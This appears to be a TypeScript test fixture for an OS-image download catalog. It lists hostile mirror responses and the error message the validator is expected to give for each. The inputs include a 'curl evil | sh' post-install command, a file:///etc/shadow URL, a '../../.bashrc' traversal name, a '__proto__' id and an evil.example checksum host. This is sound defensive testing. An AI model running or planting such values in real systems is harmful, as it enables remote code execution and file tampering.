// Catalog updates and checksum lists from a hostile (or broken) mirror: one row per case. Each is refused with its
// message, the built-in catalog stays in use, and nothing lands in the Installation media folder.
import { findDownloadEntry } from '../../../src-shared/os-downloads/index.js';

const base = findDownloadEntry('debian-12-cloud-amd64')!;

export interface CatalogUpdateCase {
  id: string;
  title: string;
  /** The body the mirror serves as the catalog update. */
  body: () => string;
  message: RegExp;
}

const update = (entry: Record<string, unknown>): string => JSON.stringify({ version: 99, entries: [{ ...base, ...entry }] });

export const catalogUpdateCases: CatalogUpdateCase[] = [
  { id: 'catalog-file-url', title: 'an entry whose URL is file:///etc/shadow', body: () => update({ url: 'file:///etc/shadow', fileName: 'shadow' }), message: /entries\[0\]\.url: must be an https:\/\/ URL/ },
  { id: 'catalog-http-url', title: 'an entry whose URL is plain http://', body: () => update({ url: 'http://cloud.debian.org/debian-12-generic-amd64.qcow2' }), message: /entries\[0\]\.url: must be an https:\/\/ URL/ },
  { id: 'catalog-http-checksum', title: 'an entry whose checksum file is plain http://', body: () => update({ verify: { ...base.verify, checksumUrl: 'http://evil.example/SHA512SUMS' } }), message: /entries\[0\]\.verify\.checksumUrl: must be an https:\/\/ URL/ },
  { id: 'catalog-traversal-name', title: 'an entry whose fileName climbs out of the folder', body: () => update({ fileName: '../../.bashrc' }), message: /entries\[0\]\.fileName: must be a plain file name/ },
  { id: 'catalog-hidden-name', title: 'an entry whose fileName is a hidden file', body: () => update({ url: 'https://cloud.debian.org/.profile', fileName: '.profile' }), message: /entries\[0\]\.fileName: must be a plain file name/ },
  { id: 'catalog-name-mismatch', title: 'an entry whose fileName is not its URL\'s', body: () => update({ fileName: 'vmlinuz' }), message: /entries\[0\]\.fileName: must be the URL's last part/ },
  { id: 'catalog-unknown-os', title: 'an entry for an OS the OS catalog does not know', body: () => update({ osId: '__proto__' }), message: /entries\[0\]\.osId: must be an id of the OS catalog/ },
  { id: 'catalog-extra-key', title: 'an entry with a key the schema does not have (a post-install script)', body: () => update({ postInstall: 'curl evil | sh' }), message: /postInstall/ },
  { id: 'catalog-not-json', title: 'a catalog that is not JSON', body: () => '<html>captive portal</html>', message: /the catalog update is not JSON/ },
  { id: 'catalog-huge-size', title: 'an entry claiming 1 PiB', body: () => update({ sizeBytes: 2 ** 50 }), message: /entries\[0\]\.sizeBytes/ },
];

export interface ChecksumListCase {
  id: string;
  title: string;
  /** The checksum list the mirror serves, given the real file's sha512. */
  list: (sha512: string, fileName: string) => string;
  message: RegExp;
}

export const checksumListCases: ChecksumListCase[] = [
  { id: 'list-other-file', title: 'a checksum list naming another file only', list: (sha) => `${sha}  debian-12-generic-arm64.qcow2\n`, message: /does not list debian-12-generic-amd64\.qcow2/ },
  { id: 'list-suffix-name', title: 'a list naming evil-<file> (a suffix match would take it)', list: (sha, f) => `${sha}  evil-${f}\n`, message: /does not list/ },
  { id: 'list-two-sums', title: 'a list naming the file twice with different sums', list: (sha, f) => `${sha}  ${f}\n${'0'.repeat(128)}  ${f}\n`, message: /2 different sha512 sums/ },
  { id: 'list-sha256-only', title: 'a list with a sha256 where a sha512 is due', list: (sha, f) => `${sha.slice(0, 64)}  ${f}\n`, message: /does not list/ },
  { id: 'list-wrong-sum', title: 'a list with a wrong sum for the file', list: (_sha, f) => `${'e'.repeat(128)}  ${f}\n`, message: /does not match its sha512 checksum .*deleted/ },
  { id: 'list-huge', title: 'a 5 MiB "checksum list"', list: () => 'x'.repeat(5 * 1024 * 1024), message: /larger than 4194304 bytes/ },
];
